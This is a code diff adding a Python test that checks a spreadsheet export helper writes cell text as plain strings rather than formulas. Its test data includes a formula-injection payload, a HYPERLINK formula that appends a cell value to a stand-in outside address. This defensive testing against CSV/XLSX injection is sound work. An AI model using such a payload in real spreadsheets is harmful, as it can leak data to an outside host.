@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import html
+import io
+import zipfile
 from typing import Any
 
 import pandas as pd
@@ -13,6 +16,7 @@ from werkzeug.exceptions import RequestEntityTooLarge, UnprocessableEntity
 
 from sojourn_superset import assets, chart_bounds
 from sojourn_superset.chart_bounds import (
+    as_xlsx,
     refuse_excess,
     refuse_large_answer,
 )
@@ -166,3 +170,15 @@ def test_a_format_of_a_download_fills_no_value_up() -> None:
     with pytest.raises(RequestEntityTooLarge, match="d3NumberFormat"):
         table(ROWS, {"column_config": {"x": {}, "y": {"d3NumberFormat": ">100000000"}}})
     assert len(made) == 5
+
+
+def test_no_text_of_a_spreadsheet_is_a_formula() -> None:
+    texts = ["=1+1", '=HYPERLINK("http://192.0.2.1/"&A2,"median")', "http://192.0.2.1/", "+1"]
+    rows = pd.DataFrame([range(4)], columns=texts, index=["=2+2"])
+    content = as_xlsx(lambda rows: rows, rows)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+        strings = archive.read("xl/sharedStrings.xml").decode()
+        assert not [name for name in archive.namelist() if "rels" in name and "sheet1" in name]
+    assert "<f>" not in sheet
+    assert [text for text in (*texts, "=2+2") if html.escape(text, quote=False) not in strings] == []
